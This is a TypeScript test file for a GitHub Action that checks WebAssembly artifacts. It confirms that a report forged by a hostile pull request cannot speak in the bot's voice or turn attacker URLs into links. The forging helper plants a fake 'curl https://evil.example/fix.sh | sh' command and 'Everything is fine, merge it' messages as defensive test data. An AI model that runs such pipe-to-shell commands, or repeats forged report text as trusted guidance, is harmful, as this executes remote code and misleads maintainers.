/**
 * A saved report is data (issue 17 item 6). The first stage of the fork-safe set-up runs pull-request code, which can
 * write anything into its report; before, post-from-report recomputed the counts and the conclusion but printed the
 * report's diagnosis text ("Harmless…", any "Fix:") as the bot's own words, and GitHub auto-linked a bare URL in it.
 * Here a real report of a regressing artifact is forged the way such a PR would, then posted: what speaks in
 * wasm-p2-check's voice comes from this build's signature database, the rest is quoted, marked, and links nowhere.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { rederiveReport } from '../../src/diagnose/saved-report.js';
import { loadSignatures } from '../../src/diagnose/signatures.js';
import type { Report } from '../../src/model.js';
import { workflowRunEvent } from '../github/events.js';
import { useActionHarness, HEAD, PR } from './harness.js';

const action = useActionHarness();
const EVIL = 'https://evil.example/fix.sh';

/** Every place the text is shown: the PR comment, the check run, the job summary. */
function surfaces(run: { summary: string }): string[] {
  return [...action.gh.commentsOn(PR).map((c) => c.body), ...action.gh.checkRuns.map((r) => r.output.summary ?? ''), run.summary];
}

/** Bare URLs GitHub would turn into links (in text, outside code spans), and Markdown links. */
function autolinks(md: string): string[] {
  const outsideCode = md.replace(/(`+)[^`]*?\1/g, '');
  return [...outsideCode.matchAll(/https?:\/\/\S+|www\.\S+|\[[^\]]*\]\([^)]*\)/g)].map((m) => m[0]);
}

/** Rewrites a real report the way a hostile PR would: the real signature's words replaced, a diagnosis of its own. */
async function forge(file: string): Promise<string> {
  const report = JSON.parse(await readFile(file, 'utf8')) as Report;
  const result = report.results.find((r) => r.diagnoses.length > 0)!;
  const real = result.diagnoses[0]!;
  result.diagnoses = [
    {
      ...real,
      title: 'Harmless: an expected difference',
      cause: `Harmless. Fix: run curl ${EVIL} | sh`,
      workarounds: [{ text: `Fix: download ${EVIL} and run it`, safe: true }],
      links: [{ title: 'Official fix', url: EVIL }],
    },
    {
      signatureId: 'harmless-by-design',
      title: 'Harmless by design',
      confidence: 'high',
      score: 999,
      cause: `Nothing to fix; see ${EVIL} or www.evil.example or mail fix@evil.example`,
      evidence: [`checked by the maintainers at ${EVIL}`],
      workarounds: [{ text: `Fix: pipe ${EVIL} to a shell`, safe: true }],
      links: [{ title: 'Maintainer statement', url: EVIL }],
    },
  ];
  result.unknown = { fingerprint: '0123456789abcdef', summary: 'forged', evidence: [], proposeUrl: EVIL };
  report.warnings = [{ code: 'all-good', message: `Everything is fine, merge it (${EVIL})` }];
  result.notes.push({ code: 'all-good', message: `Nothing to see, details at ${EVIL}` });
  await writeFile(file, JSON.stringify(report));
  return real.signatureId;
}

/** What every surface must hold after a forged report was published. */
async function expectOwnVoice(run: { summary: string }, realId: string, warnings = true): Promise<void> {
  const sig = (await loadSignatures()).signatures.find((s) => s.id === realId)!;
  expect(sig).toBeDefined();
  for (const md of surfaces(run)) {
    // The real signature's words, in the open.
    expect(md).toContain(sig.title.slice(0, 20));
    // The forged words only ever as a quotation marked as the report's.
    for (const m of md.matchAll(/Harmless/g)) expect(md.slice(Math.max(0, m.index - 60), m.index)).toMatch(/saved report (says|warns): “$/);
    // No forged URL is a link: not bare, not a Markdown link.
    expect(md).not.toContain(EVIL);
    expect(autolinks(md).filter((l) => l.includes('evil'))).toEqual([]);
    expect(md).not.toMatch(/\[(?:Official fix|Maintainer statement)\]\(/);
  }
  const comment = action.gh.commentsOn(PR)[0]!.body;
  expect(comment).toContain('The saved report says: “Harmless by design”');
  // (A merged report carries no report-level warnings.)
  if (warnings) expect(comment).toContain('The saved report warns: “Everything is fine, merge it');
}

describe('a forged report does not speak with the bot’s voice', () => {
  it('post-from-report: diagnoses from this build’s database; a forged one quoted, marked, never a safe fix; no URL of it a link', async () => {
    const dir = path.join(action.harness.scratch, 'forged-diagnosis');
    await mkdir(dir, { recursive: true });
    const file = path.join(dir, 'report.json');
    expect((await runReportOnly(file)).code).toBe(1);
    const realId = await forge(file);
    const post = await runAction({ mode: 'post-from-report', report: file, comment: 'always' });
    expect(post.code, post.stdout).toBe(0);
    await expectOwnVoice(post, realId);
  });

  it('merge: a shard report forged the same way', async () => {
    const first = await runReportOnly('reports/shard-1/report.json');
    const realId = await forge(path.join(first.workspace, 'reports/shard-1/report.json'));
    const merge = await action.run({
      inputs: { mode: 'merge', reports: 'reports/*/report.json', comment: 'always' },
      workspace: first.workspace,
    });
    expect(merge.code, merge.stdout).toBe(1);
    await expectOwnVoice(merge, realId, false);
  });

  it('a genuine report posts the same diagnosis as the check that wrote it', async () => {
    const dir = path.join(action.harness.scratch, 'genuine');
    await mkdir(dir, { recursive: true });
    const file = path.join(dir, 'report.json');
    await runReportOnly(file);
    const saved = JSON.parse(await readFile(file, 'utf8')) as Report;
    // Derived again, a genuine result's diagnoses, predictions and unknown are what the check wrote.
    const again = rederiveReport(saved, await loadSignatures()).results[0]!;
    expect(again.diagnoses).toEqual(saved.results[0]!.diagnoses);
    expect(again.predictions).toEqual(saved.results[0]!.predictions);
    expect(again.unknown).toEqual(saved.results[0]!.unknown);
    const post = await runAction({ mode: 'post-from-report', report: file, comment: 'always' });
    expect(post.code, post.stdout).toBe(0);
    const comment = action.gh.commentsOn(PR)[0]!.body;
    expect(comment).not.toContain('saved report');
    expect(saved.results[0]!.diagnoses.length).toBeGreaterThan(0);
    for (const d of saved.results[0]!.diagnoses) expect(comment).toContain(d.signatureId);
  });
});

async function runReportOnly(file: string) {
  return action.run({ inputs: { artifacts: 'build/*.wasm', mode: 'report-only', report: file }, artifacts: ['go124-hello.wasm'] });
}

async function runAction(inputs: Record<string, string>) {
  return action.run({
    inputs,
    eventName: 'workflow_run',
    event: workflowRunEvent(action.gh.api, {
      repository: action.gh.fullName,
      headSha: HEAD,
      headRepo: 'contributor/wasm-app',
      conclusion: 'failure',
    }),
  });
}
